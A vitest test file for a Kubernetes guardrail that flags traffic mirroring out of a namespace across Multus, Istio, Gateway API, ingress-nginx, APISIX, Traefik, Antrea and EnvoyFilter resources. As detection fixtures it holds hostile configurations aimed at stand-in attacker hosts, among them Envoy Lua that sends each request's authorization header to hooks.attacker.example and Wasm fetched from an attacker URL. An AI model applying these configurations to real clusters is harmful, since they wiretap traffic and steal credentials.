import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/guardrails/inspect.js';
import type { GuardrailResult } from '../../src/guardrails/types.js';
import { encodeCbor } from '../support/cbor.js';
import { guardSettings, kube } from '../support/guardrails.js';
import { encodeKube } from '../support/kube-protobuf.js';

/**
 * traffic_mirrored (src/guardrails/rules/traffic-mirrors.ts): a copy of traffic delivered
 * elsewhere. A Multus attachment's ovs-cni mirror producer or consumer, a macvlan or macvtap in
 * passthru; an Istio, Gateway API, ingress-nginx or Traefik mirror that leaves the namespace's own
 * Services; an Antrea TrafficControl that mirrors or redirects. Day 41: an `ovs-mirror-producer`
 * on the UPF's N3 attachment.
 */

const settings = guardSettings('guardrails: {}\n');
const codes = (r: GuardrailResult) => [...new Set(r.violations.map((v) => v.code))].sort();
const MIRRORED = ['traffic_mirrored'];
const JSON_CT = 'application/json';
const MERGE = 'application/merge-patch+json';
const STRATEGIC = 'application/strategic-merge-patch+json';
const JSON_PATCH = 'application/json-patch+json';
const APPLY = 'application/apply-patch+yaml';
const write = (path: string, body: object | string | Uint8Array, type = JSON_CT, method = 'POST') =>
  inspect(kube(method, path), typeof body === 'string' || body instanceof Uint8Array ? body : JSON.stringify(body), type, false, settings);

const NADS = '/apis/k8s.cni.cncf.io/v1/namespaces/cnf-upf/network-attachment-definitions';
const conf = (c: object) => JSON.stringify({ cniVersion: '0.4.0', name: 'n3-upf', ...c });
const nad = (c: object) => ({ apiVersion: 'k8s.cni.cncf.io/v1', kind: 'NetworkAttachmentDefinition', metadata: { name: 'n3-upf', namespace: 'cnf-upf' }, spec: { config: conf(c) } });
const producer = { plugins: [{ type: 'ovs', bridge: 'br-n3', vlan: 310 }, { type: 'ovs-mirror-producer', bridge: 'br-n3', mirrors: [{ name: 'n3-tap', ingress: true, egress: true }] }] };
const consumer = { plugins: [{ type: 'ovs', bridge: 'br-n3' }, { type: 'ovs-mirror-consumer', bridge: 'br-n3', mirrors: [{ name: 'n3-tap' }] }] };

describe('traffic_mirrored: Multus attachments', () => {
  it('finds an ovs-cni mirror producer or consumer, created, replaced or patched in every form', () => {
    expect(codes(write(NADS, nad(producer)))).toEqual(MIRRORED);
    expect(codes(write(NADS, nad(consumer)))).toEqual(MIRRORED);
    expect(write(NADS, nad(producer)).violations[0]).toMatchObject({ path: 'spec.config', detail: expect.stringContaining('ovs-mirror-producer copies every packet of the attached pods to the OVS mirror "n3-tap"') });
    expect(codes(write(`${NADS}/n3-upf`, nad(producer), JSON_CT, 'PUT'))).toEqual(MIRRORED);
    const spec = { spec: { config: conf(producer) } };
    for (const type of [MERGE, STRATEGIC]) expect(codes(write(`${NADS}/n3-upf`, spec, type, 'PATCH')), type).toEqual(MIRRORED);
    expect(codes(write(`${NADS}/n3-upf`, [{ op: 'replace', path: '/spec/config', value: conf(producer) }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
    const yaml = `apiVersion: k8s.cni.cncf.io/v1\nkind: NetworkAttachmentDefinition\nmetadata: {name: n3-upf}\nspec:\n  config: '${conf(producer)}'\n`;
    expect(codes(write(`${NADS}/n3-upf?fieldManager=kubectl`, yaml, APPLY, 'PATCH'))).toEqual(MIRRORED);
    expect(codes(write(NADS, yaml, 'application/yaml'))).toEqual(MIRRORED);
    expect(codes(write(NADS, encodeCbor(nad(consumer)), 'application/cbor'))).toEqual(MIRRORED);
    // A single plugin, not a conflist.
    expect(codes(write(NADS, nad({ type: 'ovs-mirror-consumer', bridge: 'br-n3', mirrors: [{ name: 'm' }] })))).toEqual(MIRRORED);
  });

  it('finds a macvlan or macvtap in passthru mode (the node interface promiscuous, all of it the pod\'s)', () => {
    expect(codes(write(NADS, nad({ type: 'macvlan', master: 'ens2f0', mode: 'passthru' })))).toEqual(MIRRORED);
    expect(codes(write(NADS, nad({ type: 'macvtap', master: 'ens2f0', mode: 'passthru' })))).toEqual(MIRRORED);
  });

  it("asks nothing of the attachments CNF teams write every day", () => {
    const routine = [
      { type: 'bridge', bridge: 'br-lab', ipam: { type: 'host-local', subnet: '10.10.0.0/24' } },
      { type: 'macvlan', master: 'ens2f1', mode: 'bridge' },
      { type: 'ipvlan', master: 'ens2f1', mode: 'l2' },
      { type: 'host-device', device: 'ens3f0' },
      { type: 'sriov', vlan: 620, vlanQoS: 4, spoofchk: 'off', trust: 'on', ipam: {} },
      { type: 'macvtap', master: 'ens2f1', mode: 'bridge' },
      { type: 'tap', multiQueue: true, bridge: 'br-vm' },
      { plugins: [{ type: 'ovs', bridge: 'br-n3', vlan: 310, mtu: 9000 }, { type: 'tuning', mtu: 9000 }] },
    ];
    for (const c of routine) expect(codes(write(NADS, nad(c))), JSON.stringify(c)).toEqual([]);
    expect(codes(write(NADS, { ...nad({}), spec: { config: 'not json {' } }))).toEqual([]);
  });

  it('reads an attachment an Argo workflow creates, and one a ManifestWork carries', () => {
    const manifest = JSON.stringify(nad(producer));
    const wf = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'x-' }, spec: { entrypoint: 'm', templates: [{ name: 'm', resource: { action: 'apply', manifest } }] } };
    expect(codes(write('/apis/argoproj.io/v1alpha1/namespaces/cnf-upf/workflows', wf))).toEqual(MIRRORED);
    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [nad(consumer)] } } };
    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
  });
});

const VS = '/apis/networking.istio.io/v1/namespaces/shop/virtualservices';
const vs = (http: object[]) => ({ apiVersion: 'networking.istio.io/v1', kind: 'VirtualService', metadata: { name: 'checkout', namespace: 'shop' }, spec: { hosts: ['checkout'], http } });
const route = { route: [{ destination: { host: 'checkout', subset: 'v1' } }] };

describe('traffic_mirrored: mesh and gateway routes', () => {
  it("finds an Istio mirror to another namespace's Service or a host outside the cluster", () => {
    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'collector.observability.svc.cluster.local' }, mirrorPercentage: { value: 100 } }])))).toEqual(MIRRORED);
    expect(codes(write(VS, vs([{ ...route, mirrors: [{ destination: { host: 'shadow.attacker.example' }, percentage: { value: 100 } }] }])))).toEqual(MIRRORED);
    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'collector.observability' } }])))).toEqual(MIRRORED);
    expect(codes(write(VS, vs([{ ...route, mirror: { host: '203.0.113.9' } }])))).toEqual(MIRRORED);
    // A name that only looks like one of the namespace's Services: DNS resolves it outside.
    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'checkout.shop.svc.attacker.example' } }])))).toEqual(MIRRORED);
    expect(write(VS, vs([{ ...route, mirror: { host: 'shadow.attacker.example' } }])).violations[0]).toMatchObject({ path: 'spec.http[0].mirror.host' });
    // Patches: merge, JSON patch.
    expect(codes(write(`${VS}/checkout`, { spec: { http: [{ ...route, mirror: { host: 'x.attacker.example' } }] } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
    expect(codes(write(`${VS}/checkout`, [{ op: 'add', path: '/spec/http/0/mirror', value: { host: 'x.attacker.example' } }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
  });

  it('reads a mirror a GitOps wrapper carries: a Fleet Bundle\'s files, a ManifestWork', () => {
    const file = `apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: {name: checkout, namespace: shop}\nspec:\n  hosts: [checkout]\n  http:\n  - route: [{destination: {host: checkout}}]\n    mirror: {host: shadow.attacker.example}\n`;
    const bundle = { apiVersion: 'fleet.cattle.io/v1alpha1', kind: 'Bundle', metadata: { name: 'shop', namespace: 'fleet-default' }, spec: { resources: [{ name: 'vs.yaml', content: file }] } };
    expect(codes(write('/apis/fleet.cattle.io/v1alpha1/namespaces/fleet-default/bundles', bundle))).toEqual(MIRRORED);
    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [vs([{ ...route, mirror: { host: 'shadow.attacker.example' } }])] } } };
    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
  });

  it('asks nothing of a shadow to the namespace\'s own Service, nor of retries, timeouts and faults', () => {
    expect(codes(write(VS, vs([{ ...route, mirror: { host: 'checkout', subset: 'v2' }, mirrorPercentage: { value: 10 } }])))).toEqual([]);
    expect(codes(write(VS, vs([{ ...route, mirrors: [{ destination: { host: 'checkout-v2.shop.svc.cluster.local' } }] }])))).toEqual([]);
    expect(codes(write(VS, vs([{ ...route, retries: { attempts: 3, perTryTimeout: '2s' }, timeout: '10s', fault: { delay: { percentage: { value: 5 }, fixedDelay: '2s' } } }])))).toEqual([]);
  });

  const HR = '/apis/gateway.networking.k8s.io/v1/namespaces/shop/httproutes';
  const hr = (filters: object[], backendFilters: object[] = []) => ({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'checkout', namespace: 'shop' }, spec: { parentRefs: [{ name: 'public', namespace: 'gateway' }], hostnames: ['dev-checkout.example.dev'], rules: [{ filters, backendRefs: [{ name: 'checkout', port: 8080, filters: backendFilters }] }] } });
  const mirror = (backendRef: object) => ({ type: 'RequestMirror', requestMirror: { backendRef } });

  it("finds a Gateway API RequestMirror to another namespace, an Envoy Gateway Backend, or Istio's Hostname outside", () => {
    expect(codes(write(HR, hr([mirror({ name: 'sink', namespace: 'lab', port: 80 })])))).toEqual(MIRRORED);
    expect(codes(write(HR, hr([mirror({ group: 'gateway.envoyproxy.io', kind: 'Backend', name: 'collector' })])))).toEqual(MIRRORED);
    expect(codes(write(HR, hr([mirror({ group: 'networking.istio.io', kind: 'Hostname', name: 'sink.attacker.example', port: 443 })])))).toEqual(MIRRORED);
    expect(codes(write(HR, hr([], [mirror({ name: 'sink', namespace: 'lab', port: 80 })])))).toEqual(MIRRORED);
    expect(codes(write('/apis/gateway.networking.k8s.io/v1/namespaces/shop/grpcroutes', { ...hr([mirror({ name: 'sink', namespace: 'lab', port: 80 })]), kind: 'GRPCRoute' }))).toEqual(MIRRORED);
    expect(codes(write(`${HR}/checkout`, [{ op: 'add', path: '/spec/rules/0/filters/-', value: mirror({ name: 'sink', namespace: 'lab', port: 80 }) }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
  });

  it('asks nothing of header filters, nor of a mirror to a Service of the route\'s namespace', () => {
    expect(codes(write(HR, hr([{ type: 'RequestHeaderModifier', requestHeaderModifier: { set: [{ name: 'x-env', value: 'dev' }] } }])))).toEqual([]);
    expect(codes(write(HR, hr([mirror({ name: 'checkout-v2', port: 8080 })])))).toEqual([]);
    expect(codes(write(HR, hr([mirror({ name: 'checkout-v2', namespace: 'shop', port: 8080 })])))).toEqual([]);
  });

  const ING = '/apis/networking.k8s.io/v1/namespaces/shop/ingresses';
  const ing = (target: string) => ({ apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'shop', namespace: 'shop', annotations: { 'nginx.ingress.kubernetes.io/mirror-target': target } }, spec: { rules: [{ host: 'dev.shop.example.dev', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'shop', port: { number: 80 } } } }] } }] } });

  it("finds ingress-nginx's mirror-target outside the Ingress's namespace, in JSON and protobuf", () => {
    expect(codes(write(ING, ing('https://collector.attacker.example$request_uri')))).toEqual(MIRRORED);
    expect(codes(write(ING, ing('http://sink.lab.svc.cluster.local$request_uri')))).toEqual(MIRRORED);
    const proto = { ...ing('https://collector.attacker.example$request_uri'), spec: { rules: [{ host: 'dev.shop.example.dev' }] } };
    expect(codes(write(ING, encodeKube(proto), 'application/vnd.kubernetes.protobuf'))).toEqual(MIRRORED);
    expect(codes(write(ING, ing('http://shop-v2.shop.svc.attacker.example$request_uri')))).toEqual(MIRRORED);
    expect(codes(write(ING, ing('http://shop-v2.shop.svc.cluster.local$request_uri')))).toEqual([]);
    expect(codes(write(ING, ing('http://shop-v2.shop.svc:8080$request_uri')))).toEqual([]);
    // review47b: `<svc>.<ns>` is asked of public DNS as it is by nginx's resolver (a variable in
    // the target), and `shop`, `dev`, `app` are top-level domains: collector.shop is anyone's.
    expect(codes(write(ING, ing('http://shop-v2.shop:8080$request_uri')))).toEqual(MIRRORED);
    expect(codes(write(ING, ing('https://collector.shop.$request_uri')))).toEqual(MIRRORED);
    expect(codes(write(ING, ing('https://collector.shop')))).toEqual(MIRRORED);
    expect(codes(write(ING, ing('https://$http_x_mirror$request_uri')))).toEqual(MIRRORED);
  });

  // review47b: two route kinds the project reads for their hosts carry a mirror too.
  it("finds APISIX's proxy-mirror plugin on a route, a plugin config and a global rule", () => {
    const AR = '/apis/apisix.apache.org/v2/namespaces/shop/apisixroutes';
    const plugin = (host: string, extra: object = {}) => ({ name: 'proxy-mirror', enable: true, config: { host }, ...extra });
    const ar = (p: object) => ({ apiVersion: 'apisix.apache.org/v2', kind: 'ApisixRoute', metadata: { name: 'shop', namespace: 'shop' }, spec: { http: [{ name: 'r', match: { hosts: ['shop.example.com'], paths: ['/*'] }, backends: [{ serviceName: 'shop', servicePort: 80 }], plugins: [p] }] } });
    expect(codes(write(AR, ar(plugin('http://collector.attacker.example:9797'))))).toEqual(MIRRORED);
    expect(codes(write(AR, ar(plugin('http://collector.shop'))))).toEqual(MIRRORED);
    expect(codes(write(AR, ar({ name: 'proxy-mirror', enable: true, secretRef: 'mirror-conf' })))).toEqual(MIRRORED);
    expect(codes(write(`${AR}/shop`, [{ op: 'replace', path: '/spec/http/0/plugins/0/config/host', value: 'http://203.0.113.9' }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
    expect(codes(write(AR, ar(plugin('http://shop-v2.shop.svc.cluster.local:80'))))).toEqual([]);
    expect(codes(write(AR, ar(plugin('http://collector.attacker.example', { enable: false }))))).toEqual([]);
    const PC = '/apis/apisix.apache.org/v2/namespaces/shop/apisixpluginconfigs';
    expect(codes(write(PC, { apiVersion: 'apisix.apache.org/v2', kind: 'ApisixPluginConfig', metadata: { name: 'm', namespace: 'shop' }, spec: { plugins: [plugin('http://collector.attacker.example')] } }))).toEqual(MIRRORED);
    const GR = '/apis/apisix.apache.org/v2/namespaces/shop/apisixglobalrules';
    expect(codes(write(GR, { apiVersion: 'apisix.apache.org/v2', kind: 'ApisixGlobalRule', metadata: { name: 'g', namespace: 'shop' }, spec: { plugins: [plugin('http://collector.attacker.example')] } }))).toEqual(MIRRORED);
  });

  it("finds an Emissary Mapping's shadow to a host outside the Mapping's namespace", () => {
    const M = '/apis/getambassador.io/v3alpha1/namespaces/shop/mappings';
    const m = (service: string, shadow = true) => ({ apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'm', namespace: 'shop' }, spec: { hostname: '*', prefix: '/', service, shadow } });
    expect(codes(write(M, m('https://collector.attacker.example')))).toEqual(MIRRORED);
    expect(codes(write(M, m('collector.shop:443')))).toEqual(MIRRORED);
    expect(codes(write(M, m('sink.lab.svc.cluster.local')))).toEqual(MIRRORED);
    expect(codes(write(`${M}/m`, { spec: { shadow: true } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
    expect(codes(write(M, m('shop-v2:8080')))).toEqual([]);
    expect(codes(write(M, m('http://shop-v2.shop.svc.cluster.local')))).toEqual([]);
  });

  it("finds Kuma's MeshHTTPRoute RequestMirror outside the route's namespace", () => {
    const MR = '/apis/kuma.io/v1alpha1/namespaces/shop/meshhttproutes';
    const mr = (backendRef: object) => ({ apiVersion: 'kuma.io/v1alpha1', kind: 'MeshHTTPRoute', metadata: { name: 'shop', namespace: 'shop' }, spec: { targetRef: { kind: 'Mesh' }, to: [{ targetRef: { kind: 'MeshService', name: 'shop' }, rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/' } }], default: { filters: [{ type: 'RequestMirror', requestMirror: { backendRef } }] } }] }] } });
    expect(codes(write(MR, mr({ kind: 'MeshExternalService', name: 'collector' })))).toEqual(MIRRORED);
    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'sink', namespace: 'lab' })))).toEqual(MIRRORED);
    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'sink_lab_svc_80' })))).toEqual(MIRRORED);
    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'shop-v2' })))).toEqual([]);
    expect(codes(write(MR, mr({ kind: 'MeshService', name: 'shop-v2_shop_svc_80' })))).toEqual([]);
  });

  it("finds a TraefikService mirror to another namespace or provider, and Antrea's TrafficControl", () => {
    const TS = '/apis/traefik.io/v1alpha1/namespaces/shop/traefikservices';
    const ts = (m: object) => ({ apiVersion: 'traefik.io/v1alpha1', kind: 'TraefikService', metadata: { name: 'm', namespace: 'shop' }, spec: { mirroring: { name: 'shop', port: 80, mirrors: [{ port: 80, percent: 100, ...m }] } } });
    expect(codes(write(TS, ts({ name: 'sink', namespace: 'lab' })))).toEqual(MIRRORED);
    expect(codes(write(TS, ts({ name: 'sink@file', kind: 'TraefikService' })))).toEqual(MIRRORED);
    expect(codes(write(TS, ts({ name: 'shop-v2' })))).toEqual([]);
    const TC = '/apis/crd.antrea.io/v1alpha2/trafficcontrols';
    const tc = (action: string) => ({ apiVersion: 'crd.antrea.io/v1alpha2', kind: 'TrafficControl', metadata: { name: 'mirror-web' }, spec: { appliedTo: { podSelector: { matchLabels: { app: 'web' } } }, direction: 'Both', action, targetPort: { vxlan: { remoteIP: '203.0.113.9' } } } });
    expect(write(TC, tc('Mirror')).violations[0]).toMatchObject({ code: 'traffic_mirrored', detail: "TrafficControl copies the selected pods' packets to a vxlan port to 203.0.113.9" });
    expect(codes(write(TC, tc('Redirect')))).toEqual(MIRRORED);
  });
});

describe('traffic_mirrored: Istio EnvoyFilter (raw Envoy configuration)', () => {
  const EF = '/apis/networking.istio.io/v1alpha3/namespaces/shop/envoyfilters';
  const ef = (configPatches: object[]) => ({ apiVersion: 'networking.istio.io/v1alpha3', kind: 'EnvoyFilter', metadata: { name: 'checkout', namespace: 'shop' }, spec: { workloadSelector: { labels: { app: 'checkout' } }, configPatches } });
  const routePatch = (value: object, applyTo = 'HTTP_ROUTE') => ({ applyTo, match: { context: 'SIDECAR_INBOUND', routeConfiguration: { vhost: { name: 'inbound|http|8080' } } }, patch: { operation: 'MERGE', value } });
  const filter = (value: object) => ({ applyTo: 'HTTP_FILTER', match: { context: 'SIDECAR_INBOUND', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager', subFilter: { name: 'envoy.filters.http.router' } } } } }, patch: { operation: 'INSERT_BEFORE', value } });
  const lua = (code: string) => filter({ name: 'envoy.filters.http.lua', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua', inlineCode: code } });
  const wasm = (vm: object) => filter({ name: 'envoy.filters.http.wasm', typed_config: { '@type': 'type.googleapis.com/udpa.type.v1.TypedStruct', type_url: 'type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm', value: { config: { vm_config: vm } } } });
  const mirrorTo = (cluster: object) => routePatch({ route: { request_mirror_policies: [{ ...cluster, runtime_fraction: { default_value: { numerator: 100 } } }] } });

  it("finds a route's or virtual host's request_mirror_policies outside the namespace's own Services, in either spelling", () => {
    expect(codes(write(EF, ef([mirrorTo({ cluster: 'outbound|443||collector.attacker.example' })])))).toEqual(MIRRORED);
    expect(write(EF, ef([mirrorTo({ cluster: 'outbound|443||collector.attacker.example' })])).violations[0]).toMatchObject({ path: 'spec.configPatches[0].patch.value.route.request_mirror_policies[0]', detail: expect.stringContaining('collector.attacker.example') });
    expect(codes(write(EF, ef([mirrorTo({ cluster: 'outbound|80||ledger.payments.svc.cluster.local' })])))).toEqual(MIRRORED);
    // A cluster the EnvoyFilter defines itself (a static address anywhere), or one each request names.
    expect(codes(write(EF, ef([mirrorTo({ cluster: 'shadow_cluster' })])))).toEqual(MIRRORED);
    expect(codes(write(EF, ef([mirrorTo({ cluster_header: 'x-mirror-cluster' })])))).toEqual(MIRRORED);
    expect(codes(write(EF, ef([routePatch({ requestMirrorPolicies: [{ cluster: 'outbound|443||x.attacker.example' }] }, 'VIRTUAL_HOST')])))).toEqual(MIRRORED);
    expect(codes(write(EF, ef([routePatch({ virtual_hosts: [{ name: 'all', domains: ['*'], routes: [{ match: { prefix: '/' }, route: { cluster: 'outbound|8080||checkout.shop.svc.cluster.local', request_mirror_policy: { cluster: 'outbound|443||x.attacker.example' } } }] }] }, 'ROUTE_CONFIGURATION')])))).toEqual(MIRRORED);
    // Patched in: merge, JSON patch.
    expect(codes(write(`${EF}/checkout`, { spec: { configPatches: [mirrorTo({ cluster: 'outbound|443||x.attacker.example' })] } }, MERGE, 'PATCH'))).toEqual(MIRRORED);
    expect(codes(write(`${EF}/checkout`, [{ op: 'add', path: '/spec/configPatches/0/patch/value/route/request_mirror_policies', value: [{ cluster: 'outbound|443||x.attacker.example' }] }], JSON_PATCH, 'PATCH'))).toEqual(MIRRORED);
  });

  it('finds a tap (the HTTP filter or the transport socket), and Lua code that sends requests out with httpCall', () => {
    expect(codes(write(EF, ef([filter({ name: 'envoy.filters.http.tap', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.tap.v3.Tap', common_config: { static_config: { match: { any_match: true }, output_config: { sinks: [{ file_per_tap: { path_prefix: '/tmp/tap' } }] } } } } })])))).toEqual(MIRRORED);
    expect(codes(write(EF, ef([{ applyTo: 'CLUSTER', patch: { operation: 'MERGE', value: { transport_socket: { name: 'envoy.transport_sockets.tap', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.transport_sockets.tap.v3.Tap' } } } } }])))).toEqual(MIRRORED);
    const out = 'function envoy_on_request(h)\n  h:httpCall("outbound|443||hooks.attacker.example", {[":method"] = "POST", [":path"] = "/c", [":authority"] = "hooks.attacker.example"}, h:headers():get("authorization"), 200, true)\nend\n';
    expect(codes(write(EF, ef([lua(out)])))).toEqual(MIRRORED);
    expect(write(EF, ef([lua(out)])).violations[0]!.detail).toContain('hooks.attacker.example');
    // A cluster the code computes is any cluster.
    expect(codes(write(EF, ef([lua('function envoy_on_request(h)\n  local c = h:headers():get("x-c")\n  h:httpCall(c, {}, "", 100)\nend\n')])))).toEqual(MIRRORED);
    // Per-route Lua, the typed config itself.
    expect(codes(write(EF, ef([routePatch({ typed_per_filter_config: { 'envoy.filters.http.lua': { '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.LuaPerRoute', source_code: { inline_string: out } } } })])))).toEqual(MIRRORED);
  });

  it('calls unread what it cannot see: Wasm code fetched or loaded, Lua that reaches httpCall without spelling it', () => {
    const remote = write(EF, ef([wasm({ runtime: 'envoy.wasm.runtime.v8', code: { remote: { http_uri: { uri: 'https://plugins.attacker.example/f.wasm', timeout: '10s' }, sha256: 'a'.repeat(64) } } })]));
    expect(remote.unreadable).toBe('body_unreadable');
    expect(remote.unreadableDetail).toContain('Wasm');
    for (const code of ['function envoy_on_request(h) h["http" .. "Call"](h, "x", {}, "", 1) end', 'function envoy_on_request(h) dofile("/etc/envoy/lua/capture.lua") end', 'function envoy_on_request(h) local f = load(h:headers():get("x-code")) f() end']) {
      expect(write(EF, ef([lua(code)])).unreadable, code).toBe('body_unreadable');
    }
  });

  it('asks nothing of the EnvoyFilters meshes run every day', () => {
    const routine = [
      // Istio's own stats extension on the null runtime (built into the proxy).
      wasm({ runtime: 'envoy.wasm.runtime.null', code: { local: { inline_string: 'envoy.wasm.stats' } } }),
      // Security headers from Lua.
      lua('function envoy_on_response(h)\n  h:headers():add("strict-transport-security", "max-age=31536000")\n  h:headers():replace("x-frame-options", "DENY")\n  h:logInfo("path " .. (h:headers():get(":path") or ""))\nend\n'),
      // Lua calling the namespace's own auth service.
      lua('function envoy_on_request(h)\n  local hd, body = h:httpCall("outbound|8080||authz.shop.svc.cluster.local", {[":method"] = "GET", [":path"] = "/check", [":authority"] = "authz"}, "", 500)\nend\n'),
      filter({ name: 'envoy.filters.http.local_ratelimit', typed_config: { '@type': 'type.googleapis.com/udpa.type.v1.TypedStruct', type_url: 'type.googleapis.com/envoy.extensions.filters.http.local_ratelimit.v3.LocalRateLimit', value: { stat_prefix: 'http_local_rate_limiter', token_bucket: { max_tokens: 100, tokens_per_fill: 100, fill_interval: '1s' } } } }),
      filter({ name: 'envoy.filters.http.compressor', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.compressor.v3.Compressor', compressor_library: { name: 'text_optimized', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.compression.gzip.compressor.v3.Gzip' } } } }),
      { applyTo: 'NETWORK_FILTER', match: { context: 'GATEWAY', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager' } } } }, patch: { operation: 'MERGE', value: { typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.network.http_connection_manager.v3.HttpConnectionManager', use_remote_address: true, xff_num_trusted_hops: 1, common_http_protocol_options: { idle_timeout: '300s' } } } } },
      { applyTo: 'CLUSTER', match: { cluster: { service: 'checkout.shop.svc.cluster.local' } }, patch: { operation: 'MERGE', value: { per_connection_buffer_limit_bytes: 32768, circuit_breakers: { thresholds: [{ max_connections: 1000 }] } } } },
      { applyTo: 'LISTENER', match: { context: 'SIDECAR_INBOUND' }, patch: { operation: 'MERGE', value: { per_connection_buffer_limit_bytes: 65536 } } },
      // A canary shadow to the namespace's own v2.
      mirrorTo({ cluster: 'outbound|8080|v2|checkout.shop.svc.cluster.local' }),
      routePatch({ route: { timeout: '30s', retry_policy: { retry_on: '5xx', num_retries: 2 } } }),
    ];
    for (const p of routine) {
      const r = write(EF, ef([p]));
      expect(r.violations, JSON.stringify(p).slice(0, 120)).toEqual([]);
      expect(r.unreadable, JSON.stringify(p).slice(0, 120)).toBeUndefined();
    }
  });

  it('reads an EnvoyFilter a GitOps object patches in, or carries', () => {
    const app = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'mesh', namespace: 'argocd' }, spec: { project: 'mesh', destination: { server: 'https://kubernetes.default.svc', namespace: 'shop' }, source: { repoURL: 'https://git.example/mesh.git', path: 'shop', kustomize: { patches: [{ target: { group: 'networking.istio.io', kind: 'EnvoyFilter', name: 'checkout' }, patch: JSON.stringify([{ op: 'add', path: '/spec/configPatches/-', value: mirrorTo({ cluster: 'outbound|443||x.attacker.example' }) }]) }] } } } };
    expect(codes(write('/apis/argoproj.io/v1alpha1/namespaces/argocd/applications', app))).toEqual(MIRRORED);
    const work = { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'w', namespace: 'edge-1' }, spec: { workload: { manifests: [ef([mirrorTo({ cluster: 'outbound|443||x.attacker.example' })])] } } };
    expect(codes(write('/apis/work.open-cluster-management.io/v1/namespaces/edge-1/manifestworks', work))).toEqual(MIRRORED);
  });
});
